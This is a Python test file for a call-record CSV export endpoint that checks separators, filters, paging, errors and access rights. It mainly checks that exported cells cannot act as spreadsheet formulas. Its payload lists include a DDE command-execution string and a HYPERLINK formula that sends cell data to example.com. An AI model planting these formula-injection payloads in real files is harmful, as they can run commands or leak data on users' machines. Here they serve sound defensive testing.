"""Calls as a CSV file: with the list's filters, in any separator, streamed, and never run by a spreadsheet."""

from __future__ import annotations

import csv
import io
from datetime import timedelta
from typing import Any

import pytest

from parlons.api.routes import call_lists
from parlons.calls.record import CallRecord
from parlons.calls.timeline import CallStatus, EndCode
from parlons.errors import StoreError
from parlons.store.calls import CallPage

from .stage import STARTED, Stage
from .test_hostile import problem

PATH = "/v1/calls/export.csv"
NASTY = [
    "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1", "＝1+1", "＋1", "\xa0=1", "+",
    "-", '=HYPERLINK("http://example.com/?x="&A1)', "+33123=1", "+0123456789", "+33 1 23 45 67 89",
]  # fmt: skip
"""What a caller may call themselves."""
INSIDE = ["a;=1+1", "a,=1+1", 'a";"=1+1', "a\t@x", "a\n=1", "a;  +1"]
"""And what would begin a cell if the file were split at another separator."""


def call(call_id: str, minutes: int = 0, **values: Any) -> CallRecord:
    given: dict[str, Any] = {
        "id": call_id, "direction": "inbound", "started_at": STARTED + timedelta(minutes=minutes),
        "status": CallStatus.COMPLETED, "caller": "+33612345678", "called": "+33123456789",
    }  # fmt: skip
    return CallRecord(**(given | values))


async def table(stage: Stage, mark: str = ",", **params: Any) -> list[dict[str, str]]:
    answer = await stage.http.get(PATH, params=params)
    assert answer.status_code == 200, answer.text
    assert answer.content.startswith(b"\xef\xbb\xbf")
    assert b"\xef\xbb\xbf" not in answer.content[3:]
    text = answer.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline=""), delimiter=mark, strict=True))


async def test_a_row_holds_the_call(both: Stage) -> None:
    await both.store.calls.create(
        call(
            "c", agent_id="accueil", agent_version=3, connection_id="trunk", language="fr-FR", recording="c.wav",
            answered_at=STARTED + timedelta(seconds=2), ended_at=STARTED + timedelta(seconds=62.25), ended_by="caller",
            end_reason="raccroché", end_code=EndCode.HUNG_UP, context={"name": "Zoé"},
        )
    )  # fmt: skip
    (row,) = await table(both)
    assert row == {
        "id": "c", "started_at": "2026-05-04T09:30:00+00:00", "answered_at": "2026-05-04T09:30:02+00:00",
        "ended_at": "2026-05-04T09:31:02+00:00", "duration_seconds": "60.2", "direction": "inbound",
        "status": "completed", "agent_id": "accueil", "agent_version": "3", "caller": "+33612345678",
        "called": "+33123456789", "anonymous": "false", "from_browser": "false", "connection_id": "trunk",
        "language": "fr-FR",
        "ended_by": "caller", "end_code": "hung_up", "end_reason": "raccroché", "trigger": "", "failover_action": "",
        "failover_outcome": "", "has_recording": "true",
    }  # fmt: skip


async def test_no_call_is_a_heading(stage: Stage) -> None:
    answer = await stage.http.get(PATH)
    assert answer.headers["content-type"].startswith("text/csv")
    assert answer.headers["content-disposition"] == 'attachment; filename="calls.csv"'
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.text.startswith("\ufeffid,started_at,")
    assert answer.text.count("\n") == 1


@pytest.mark.parametrize(("name", "mark"), [("comma", ","), ("semicolon", ";"), ("tab", "\t")])
async def test_separators(stage: Stage, name: str, mark: str) -> None:
    await stage.store.calls.create(call("c", end_reason=f'one{mark}two "three"'))
    (row,) = await table(stage, mark, separator=name)
    assert (row["id"], row["end_reason"]) == ("c", f'one{mark}two "three"')


@pytest.mark.parametrize("separator", ["comma", "semicolon"])
async def test_no_cell_is_a_formula(stage: Stage, separator: str) -> None:
    for number, text in enumerate(NASTY + INSIDE):
        await stage.store.calls.create(call(f"c{number}", number, caller=text, called=text, end_reason=text))
    for row in await table(stage, ";" if separator == "semicolon" else ",", separator=separator):
        for name in ("caller", "called", "end_reason"):
            assert not row[name].lstrip(" \xa0").startswith(tuple("=+-@\t\r\n＝＋－＠")), row
    raw = (await stage.http.get(PATH, params={"separator": separator})).text
    for mark in ",;\t\n":  # as a spreadsheet does that splits at another
        for cell in raw.removeprefix("\ufeff").replace("\r\n", "\n").split(mark):
            bare = cell.lstrip(' \xa0"')
            assert not bare.startswith(tuple("=@-＝＋－＠")), (mark, cell)
            assert not bare.startswith("+") or bare[1:13].split(";")[0].split(",")[0].isdigit(), (mark, cell)


async def test_a_number_stays_a_number(stage: Stage) -> None:
    await stage.store.calls.create(call("c", caller="+33612345678", called="2001"))
    (row,) = await table(stage)
    assert (row["caller"], row["called"]) == ("+33612345678", "2001")


async def test_the_filters_of_the_list(both: Stage) -> None:
    await both.store.calls.create(call("busy", 1, status=CallStatus.BUSY, agent_id="a"))
    await both.store.calls.create(call("out", 2, direction="outbound", caller="+33123456789", called="+33699999999"))
    await both.store.calls.create(call("over", 3, trigger="pre_call_timeout", status=CallStatus.FAILOVER))
    for params in (
        {}, {"status": "busy"}, {"agent_id": "a"}, {"direction": "outbound"}, {"number": "06 99 99 99 99"},
        {"number": "01 23 45 67 89"}, {"trigger": "pre_call_timeout"}, {"since": "2026-05-04T09:32:00Z"},
        {"until": "2026-05-04T09:32:00Z"}, {"status": "busy", "direction": "outbound"},
    ):  # fmt: skip
        listed = [item["id"] for item in (await both.http.get("/v1/calls", params=params)).json()["items"]]
        assert [row["id"] for row in await table(both, **params)] == listed, params


async def test_many_calls_are_read_a_page_at_a_time(stage: Stage, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(call_lists, "AT_ONCE", 3)
    for number in range(10):
        await stage.store.calls.create(call(f"c{number}", number // 4))
    asked: list[int] = []
    read = stage.store.calls.list

    async def counted(*args: Any, **options: Any) -> CallPage:
        page = await read(*args, **options)
        asked.append(len(page.calls))
        return page

    monkeypatch.setattr(stage.store.calls, "list", counted)
    assert [row["id"] for row in await table(stage)] == [f"c{n}" for n in (9, 8, 7, 6, 5, 4, 3, 2, 1, 0)]
    assert asked == [3, 3, 3, 1]


async def test_what_is_asked_wrongly_is_named(stage: Stage) -> None:
    for params, path in (
        ({"separator": "pipe"}, "query.separator"),
        ({"status": "late"}, "query.status"),
        ({"since": "yesterday"}, "query.since"),
        ({"since": "2026-05-04T09:30:00"}, "query.since"),
        ({"until": "0001-01-01T00:00:00+14:00"}, "query"),
        ({"number": "\n"}, "query.number"),
        ({"agent_id": "../x"}, "query.agent_id"),
        ({"trigger": "bored"}, "query.trigger"),
    ):
        told = problem(await stage.http.get(PATH, params=params), 422)
        assert [error["path"] for error in told["errors"]] == [path], params


async def test_a_database_that_is_away_is_a_problem_and_no_half_file(
    stage: Stage, monkeypatch: pytest.MonkeyPatch
) -> None:
    async def away(*_: object, **__: object) -> CallPage:
        raise StoreError("the database does not do its work now.")

    monkeypatch.setattr(stage.store.calls, "list", away)
    problem(await stage.http.get(PATH), 503)


async def test_reading_is_enough_and_needed(stage: Stage) -> None:
    assert (await stage.http.get(PATH, headers=await stage.key("read"))).status_code == 200
    assert (await stage.http.get(PATH, headers=await stage.key("calls"))).status_code == 403
    async with stage.client() as nobody:
        assert (await nobody.get(PATH)).status_code == 401
